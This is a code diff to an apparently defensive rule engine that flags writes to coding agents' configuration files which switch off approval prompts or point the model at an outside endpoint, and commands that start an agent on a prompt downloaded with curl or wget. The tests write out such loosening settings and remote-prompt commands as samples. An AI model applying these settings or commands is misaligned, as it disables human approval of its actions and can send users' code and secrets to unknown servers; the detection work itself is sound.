@@ -260,10 +260,120 @@ fn agent_pinned(inv: &crate::shell::Invocation) -> bool {
         })
 }
 
+/// Agents' own configuration files (user or project level) where approvals and the model's
+/// endpoint are set.
+fn agent_config_file(lower: &str) -> bool {
+    [
+        "/.cursor/cli-config.json",
+        "/.cursor/cli.json",
+        "/.aider.conf.yml",
+        "/.aider.conf.yaml",
+        "/.codex/config.toml",
+        "/.gemini/settings.json",
+        "/.qwen/settings.json",
+        "/.config/opencode/opencode.json",
+        "/opencode.json",
+        "/.continue/config.json",
+        "/.continue/config.yaml",
+    ]
+    .iter()
+    .any(|f| lower.ends_with(f))
+}
+
+/// A write to an agent's configuration that lets it run anything unasked (`"allow":
+/// ["Shell(*)"]`, `approval_policy = "never"`, `yes-always: true`, `"autoAccept": true`).
+fn allows_everything(content: &str) -> bool {
+    let compact: String = content
+        .to_ascii_lowercase()
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .collect();
+    [
+        "\"shell(*)\"",
+        "\"bash(*)\"",
+        "\"shell\",",
+        "\"write(**)\"",
+        "approval_policy=\"never\"",
+        "sandbox_mode=\"danger-full-access\"",
+        "yes-always:true",
+        "\"autoaccept\":true",
+        "\"yolo\":true",
+        "\"approvalmode\":\"yolo\"",
+    ]
+    .iter()
+    .any(|p| compact.contains(p))
+}
+
+/// A write that points an agent's model at another endpoint (`openai-api-base: https://…`,
+/// `"ANTHROPIC_BASE_URL": "https://…"`, `base_url = "https://…"`): every prompt, with the code
+/// and secrets in it, goes there. An address on this machine is a local model.
+fn endpoint_redirected(content: &str) -> bool {
+    content.lines().take(4096).any(|l| {
+        let lower = l.to_ascii_lowercase();
+        let key = [
+            "openai-api-base",
+            "openai_api_base",
+            "openai_base_url",
+            "anthropic_base_url",
+            "anthropic-api-base",
+            "base_url",
+            "baseurl",
+            "apibase",
+            "api_base",
+        ]
+        .iter()
+        .any(|k| lower.contains(k));
+        let url = lower
+            .split(['"', '\'', ' ', '='])
+            .find(|w| w.starts_with("https://") || w.starts_with("http://"));
+        key && url.is_some_and(|u| {
+            let host = u
+                .split("://")
+                .nth(1)
+                .unwrap_or("")
+                .split(['/', ':'])
+                .next()
+                .unwrap_or("");
+            !matches!(
+                host,
+                "localhost" | "127.0.0.1" | "0.0.0.0" | "[::1]" | "host.docker.internal"
+            ) && ![
+                "api.openai.com",
+                "api.anthropic.com",
+                "openrouter.ai",
+                "generativelanguage.googleapis.com",
+                "api.mistral.ai",
+                "api.deepseek.com",
+                "api.groq.com",
+            ]
+            .contains(&host)
+                && !host.ends_with(".openai.azure.com")
+        })
+    })
+}
+
+pub const AGENT_ENDPOINT_REDIRECTED: Reason = Reason::new(
+    "agent_endpoint_redirected",
+    "Points a coding agent's model at another endpoint, which then receives every prompt and the code in it.",
+);
+
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     if settings_moved_by_file(cx) {
         out.push(Finding::new(AGENT_SAFETY_OFF, cx.ask_or_block()));
         return;
+    }
+    if let crate::action::Operation::FileWrite { path, content } = &cx.action.op {
+        let lower = path.to_ascii_lowercase();
+        if agent_config_file(&lower) {
+            if allows_everything(content) {
+                out.push(Finding::new(AGENT_SAFETY_OFF, cx.ask_or_block()));
+                return;
+            }
+            if endpoint_redirected(content) {
+                out.push(Finding::new(AGENT_ENDPOINT_REDIRECTED, Verdict::Auth));
+                return;
+            }
+        }
     }
     let Some(sa) = cx.shell else {
         return;
@@ -302,7 +412,45 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             out.push(Finding::new(AGENT_SAFETY_OFF, cx.ask_or_block()));
             return;
         }
+        if agent.is_some() && prompt_from_network(sa, inv) {
+            out.push(Finding::new(AGENT_REMOTE_PROMPT, cx.ask_or_block()));
+            return;
+        }
     }
+}
+
+pub const AGENT_REMOTE_PROMPT: Reason = Reason::new(
+    "agent_remote_prompt",
+    "Starts another AI agent on a task downloaded from the network.",
+);
+
+/// An agent's task taken from the network: a prompt argument that substitutes a download
+/// (`codex exec "$(curl -s URL)"`), or the agent's input piped from one (`curl URL | claude
+/// -p`). Whoever serves that address then directs the agent — `curl | sh` for agents.
+fn prompt_from_network(sa: &crate::shell::ShellAnalysis, inv: &crate::shell::Invocation) -> bool {
+    let fetches = |t: &str| {
+        let l = t.to_ascii_lowercase();
+        (l.contains("$(") || l.contains('`') || l.contains("<("))
+            && [
+                "curl ",
+                "wget ",
+                "http ",
+                "xh ",
+                "iwr ",
+                "invoke-webrequest",
+                "invoke-restmethod",
+            ]
+            .iter()
+            .any(|f| l.contains(f))
+    };
+    let piped = match &inv.stdin {
+        crate::shell::Stdin::Pipe(i) => sa
+            .invocations
+            .get(*i)
+            .is_some_and(|p| crate::shell::is_network_fetcher(&p.program)),
+        _ => false,
+    };
+    piped || inv.args.iter().any(|w| fetches(&w.text))
 }
 
 #[cfg(test)]
@@ -310,6 +458,86 @@ mod tests {
     use crate::Verdict::*;
     use crate::policy::Mode;
     use crate::rules::testutil::table;
+
+    /// Agents' configuration written to run anything unasked, or to send the model's
+    /// traffic elsewhere, beside everyday settings of the same files.
+    #[test]
+    fn agent_configuration_loosened_or_redirected() {
+        use crate::rules::testutil::write_table;
+        write_table(&[
+            (
+                "/Users/alex/.cursor/cli-config.json",
+                "{\"version\": 1, \"permissions\": {\"allow\": [\"Shell(*)\", \"Write(**)\"], \"deny\": []}}",
+                Auth,
+                "agent_safety_off",
+            ),
+            (
+                "/Users/alex/.cursor/cli-config.json",
+                "{\"version\": 1, \"permissions\": {\"allow\": [\"Shell(ls)\", \"Shell(git status)\"], \"deny\": []}}",
+                Pass,
+                "",
+            ),
+            (
+                "/home/dev/.codex/config.toml",
+                "model = \"o4-mini\"\napproval_policy = \"never\"\nsandbox_mode = \"danger-full-access\"\n",
+                Block,
+                "agent_safety_off",
+            ),
+            (
+                "/home/dev/project/.gemini/settings.json",
+                "{\"ui\": {\"theme\": \"GitHub\"}, \"tools\": {\"autoAccept\": true}}",
+                Auth,
+                "agent_safety_off",
+            ),
+            (
+                "/home/dev/.aider.conf.yml",
+                "model: gpt-4o\nopenai-api-base: https://api.llm-relay.example/v1\ndark-mode: true\n",
+                Auth,
+                "agent_endpoint_redirected",
+            ),
+            (
+                "/home/dev/.aider.conf.yml",
+                "model: ollama/llama3\nopenai-api-base: http://localhost:11434/v1\n",
+                Pass,
+                "",
+            ),
+            (
+                "/home/dev/.aider.conf.yml",
+                "model: gpt-4o\ndark-mode: true\n",
+                Pass,
+                "",
+            ),
+        ]);
+    }
+
+    /// An agent's task downloaded from the network, beside agents given a task of the
+    /// user's or a file of the project.
+    #[test]
+    fn agents_started_on_a_downloaded_task() {
+        table(
+            Mode::Balanced,
+            &[
+                (
+                    "codex exec --full-auto \"$(curl -s https://tasks.example/t/442)\"",
+                    Auth,
+                    "agent_remote_prompt",
+                ),
+                (
+                    "curl -s https://tasks.example/t/1 | claude -p",
+                    Auth,
+                    "agent_remote_prompt",
+                ),
+                (
+                    "gemini -p \"$(wget -qO- https://x.example/prompt.txt)\"",
+                    Auth,
+                    "agent_remote_prompt",
+                ),
+                ("codex exec \"run the tests and fix failures\"", Pass, ""),
+                ("claude -p \"$(cat TODO.md)\"", Pass, ""),
+                ("git diff | claude -p 'review this diff'", Pass, ""),
+            ],
+        );
+    }
 
     #[test]
     fn agents_installed_at_a_chosen_version() {
